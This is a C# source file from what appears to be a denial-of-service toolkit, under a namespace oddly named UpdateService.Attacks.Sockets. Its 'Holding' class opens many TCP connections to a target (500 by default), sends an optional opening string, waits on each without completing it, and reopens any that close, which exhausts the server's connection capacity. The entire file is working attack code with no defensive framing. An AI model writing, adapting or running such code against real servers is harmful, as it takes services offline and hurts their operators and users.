using System.Net.Sockets;
using System.Text;

namespace UpdateService.Attacks.Sockets;

/// <summary>Opens connections and gives nothing back; opens another where one is ended.</summary>
internal static class Holding
{
    private const int Many = 500;

    public static Task RunAsync(Target target) => RunAsync(target, "");

    /// <param name="target">The first value is how many connections are held.</param>
    /// <param name="beginning">What each sends.</param>
    public static Task RunAsync(Target target, string beginning) => target.RepeatAsync(target.Number(0, Many), async _ =>
    {
        using var client = await target.ConnectAsync();
        await client.GetStream().WriteAsync(Encoding.Latin1.GetBytes(beginning), target.Ending);
        _ = await client.Client.ReceiveAsync(new byte[1], SocketFlags.None, target.Ending);
        await Task.Delay(50, target.Ending);
    });
}
